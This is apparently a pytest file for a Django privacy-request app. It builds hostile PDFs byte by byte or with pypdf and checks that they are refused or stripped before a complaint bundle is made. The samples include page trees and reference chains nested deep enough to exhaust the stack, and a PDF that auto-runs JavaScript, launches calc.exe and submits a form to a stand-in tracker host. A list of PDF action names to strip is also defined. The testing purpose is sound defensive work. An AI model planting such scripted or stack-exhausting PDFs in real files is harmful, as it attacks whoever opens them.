"""Hostile PDFs, built here byte by byte or with pypdf: one pypdf cannot read is refused on
upload with the usual reason, never a server error; one stored anyway, or one that reads but
cannot be copied, becomes an annex whose cover says it could not be included; and no action or
script inside an uploaded PDF reaches the bundle sent to the authority, while its pages do."""

import io
import logging
from email.message import EmailMessage

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    ByteStringObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from privacyreq.letters.pdf import html_to_pdf
from privacyreq.tracking.attachments import attachment_add
from privacyreq.tracking.bundle import complaint_bundle_pdf
from privacyreq.tracking.models import Attachment
from privacyreq.tracking.uploads import UploadRefused
from tests.factories import UserFactory
from tests.tracking.escalation_support import (
    escalate,
    make_case,
    page_text,
    pdf_text,
    request_of,
    sent,
)

pytestmark = pytest.mark.django_db

CANNOT_BE_READ = "The file looks like a PDF but cannot be read."
MISSING = (
    "This document is no longer stored with the case, so it could not be included here. I will "
    "provide a copy on request."
)
REPLY_TEXT = "We decline to act on your objection."
# Names only an action or a script carries; none may be left anywhere in a bundle.
ACTING_NAMES = {"/JavaScript", "/JS", "/OpenAction", "/AA", "/URI", "/Launch", "/SubmitForm"}
SCRIPTS = ("app.alert", "this.submitForm", "calc.exe", "https://tracker.invalid")


@pytest.fixture
def owner(reference_data):
    return UserFactory()


@pytest.fixture
def objection(owner):
    return sent(request_of(make_case(owner)))


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF file of these object bodies, numbered from 1 (the catalog), with its xref table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


PAGE = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] %s>>"


def deep_page_tree(depth: int = 5000) -> bytes:
    """/Pages nodes each with one kid, the next, ``depth`` deep, and one page at the bottom."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        number = 2 + level
        parent = b" /Parent %d 0 R" % (number - 1) if level else b""
        objects.append(b"<< /Type /Pages /Kids [%d 0 R] /Count 1%s >>" % (number + 1, parent))
    objects.append(PAGE % (depth + 1, b""))
    return raw_pdf(objects)


def reference_chain(length: int = 5000) -> bytes:
    """Two pages that read; the second refers to an array that refers to an array… ``length``
    deep: read lazily it is fine, copied it is deeper than the stack, after the first page was
    copied."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
        PAGE % (2, b""),
        PAGE % (2, b"/PieceInfo 5 0 R "),
    ]
    objects += [b"[%d 0 R]" % (6 + link) for link in range(length)]
    objects.append(b"[]")
    return raw_pdf(objects)


def inline_page() -> bytes:
    """A page written inside its parent's /Kids rather than as an object of its own."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [<< /Type /Page /MediaBox [0 0 595 842] >>] /Count 1 >>",
        ]
    )


def action(kind: str, **entries: str) -> DictionaryObject:
    fields = {NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()}
    return DictionaryObject({NameObject("/S"): NameObject(kind), **fields})


def link(target: DictionaryObject, *, at: float) -> DictionaryObject:
    rect = ArrayObject(FloatObject(value) for value in (at, at, at + 50, at + 20))
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): rect,
            NameObject("/A"): target,
        }
    )


def scripted_pdf() -> bytes:
    """A one-page reply that acts: script and a print dialog on opening, a script when the page
    opens, links that run a script, open a web page or a program, or submit a form, and one link
    to its own page, which may stay."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(reply_pdf())))
    writer.root_object[NameObject("/OpenAction")] = action("/JavaScript", JS="app.alert('open')")
    script = action("/JavaScript", JS="this.submitForm('https://tracker.invalid')")
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("x"), script])}
            )
        }
    )
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/JavaScript", JS="app.alert('page')")}
    )
    scripted_link = link(action("/JavaScript", JS="app.alert('click')"), at=100)
    scripted_link[NameObject("/AA")] = DictionaryObject(
        {NameObject("/E"): action("/JavaScript", JS="app.alert('hover')")}
    )
    for annotation in (
        scripted_link,
        link(action("/URI", URI="https://tracker.invalid/pixel"), at=150),
        link(action("/Launch", F="calc.exe"), at=200),
        link(action("/SubmitForm", F="https://tracker.invalid/form"), at=250),
    ):
        writer.add_annotation(page_number=0, annotation=annotation)
    goto = DictionaryObject({NameObject("/S"): NameObject("/GoTo")})
    goto[NameObject("/D")] = ArrayObject([page.indirect_reference, NameObject("/Fit")])
    writer.add_annotation(page_number=0, annotation=link(goto, at=300))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def reply_pdf() -> bytes:
    return html_to_pdf(
        f'<!doctype html><html lang="en"><title>Reply</title><p>{REPLY_TEXT}</p></html>'
    )


def email_with(pdf: bytes) -> bytes:
    message = EmailMessage()
    message["From"] = "Privacy Team <privacy@acme.example>"
    message["To"] = "erika@example.org"
    message["Date"] = "Tue, 01 Dec 2026 10:00:00 +0100"
    message["Subject"] = "Re: Your objection"
    message.set_content("Our decision is attached.")
    message.add_attachment(pdf, maintype="application", subtype="pdf", filename="decision.pdf")
    return message.as_bytes()


def pieces(data: bytes) -> set[str]:
    """Every key, name and string in every object of the file, as pypdf reads it back: the
    numbered objects one by one, whether anything refers to them or not, and their direct
    contents."""
    reader = PdfReader(io.BytesIO(data))
    found: set[str] = set()
    pending = [reader.trailer]
    pending += [reader.get_object(number) for number in range(1, reader.trailer["/Size"])]
    while pending:
        item = pending.pop()
        if isinstance(item, DictionaryObject):
            found.update(str(key) for key in item)
            pending.extend(item.values())
        elif isinstance(item, ArrayObject):
            pending.extend(item)
        elif isinstance(item, (NameObject, TextStringObject, ByteStringObject)):
            found.add(str(item))
    return found


def attach(client, request, name: str, data: bytes):
    upload = io.BytesIO(data)
    upload.name = name
    return client.post(reverse("tracking:attach", args=[request.pk]), {"file": upload})


def bundle_pages(request) -> tuple[list[str], list[tuple[str, int]]]:
    reader = PdfReader(io.BytesIO(complaint_bundle_pdf(request=request)))
    outline = [(item.title, reader.get_destination_page_number(item)) for item in reader.outline]
    return [page_text(page) for page in reader.pages], outline


def test_a_deeply_nested_page_tree_is_refused_as_unreadable(objection):
    with pytest.raises(UploadRefused) as refused:
        attachment_add(request=objection, data=deep_page_tree(), name="reply.pdf")

    assert str(refused.value) == CANNOT_BE_READ
    assert not Attachment.objects.exists()


def test_the_attach_page_refuses_a_deeply_nested_page_tree_with_the_reason(
    client, owner, objection
):
    client.force_login(owner)

    response = attach(client, objection, "reply.pdf", deep_page_tree())

    assert response.status_code == 400
    assert CANNOT_BE_READ in response.content.decode()
    assert not Attachment.objects.exists()


def _stored_over(data: bytes):
    """Attach a readable PDF, then put ``data`` in its place in storage: a file stored before
    the check refused its kind."""

    def store(request) -> None:
        attachment = attachment_add(request=request, data=reply_pdf(), name="reply.pdf")
        storage, name = attachment.file.storage, attachment.file.name
        storage.delete(name)
        assert storage.save(name, ContentFile(data)) == name

    return store


def _attached(data: bytes):
    def store(request) -> None:
        attachment_add(request=request, data=data, name="reply.pdf")

    return store


@pytest.mark.parametrize(
    "store",
    [_stored_over(deep_page_tree()), _attached(reference_chain()), _attached(inline_page())],
    ids=["deep-page-tree-stored", "reference-chain", "page-inside-its-parent"],
)
def test_a_stored_pdf_that_cannot_be_copied_gets_a_cover_saying_so(objection, store, caplog):
    store(objection)
    request = escalate(objection)

    with caplog.at_level(logging.WARNING, logger="privacyreq.tracking.bundle"):
        texts, outline = bundle_pages(request)

    # The annex keeps its number and cover, which is the bundle's last page: nothing of the
    # file's pages is left behind it, even where some were copied before it failed.
    assert [title.split(" — ")[0] for title, _page in outline[1:]] == ["Annex 1", "Annex 2"]
    assert outline[2][1] == len(texts) - 1
    assert texts[-1].startswith("Annex 2 — Correspondence from the controller (reply.pdf)")
    assert MISSING in texts[-1]
    assert "I object under Article 21(1) GDPR" in " ".join(texts[outline[1][1] :])
    assert "Annex 2 cannot be read" in caplog.text


@pytest.mark.parametrize("inside_an_email", [False, True], ids=["pdf", "pdf-in-an-email"])
def test_no_action_or_script_of_an_uploaded_pdf_reaches_the_bundle(objection, inside_an_email):
    hostile = scripted_pdf()
    # What is to be removed is there to begin with, and pypdf reads the file.
    before = pieces(hostile)
    assert before.issuperset(ACTING_NAMES)
    assert all(any(script in piece for piece in before) for script in SCRIPTS)
    data = email_with(hostile) if inside_an_email else hostile
    attachment_add(request=objection, data=data, name="reply")
    request = escalate(objection)

    bundle = complaint_bundle_pdf(request=request)

    found = pieces(bundle)
    assert not ACTING_NAMES & found
    assert not [piece for piece in found if any(script in piece for script in SCRIPTS)]
    reader = PdfReader(io.BytesIO(bundle))
    # The reply's page is still there, as is its link to itself.
    reply_page = next(page for page in reader.pages if REPLY_TEXT in page_text(page))
    links = [annotation.get_object() for annotation in reply_page.get("/Annots", [])]
    assert [entry["/A"]["/S"] for entry in links if "/A" in entry] == ["/GoTo"]
    assert reader.get_page_number(links[-1]["/A"]["/D"][0].get_object()) == reader.get_page_number(
        reply_page
    )
    # The bundle's own bookmarks and title are intact.
    assert [item.title.split(" — ")[0] for item in reader.outline[1:]] == ["Annex 1", "Annex 2"]
    assert reader.metadata.title == f"{request.complaint.subject}, with annexes"
    assert REPLY_TEXT in pdf_text(bundle)
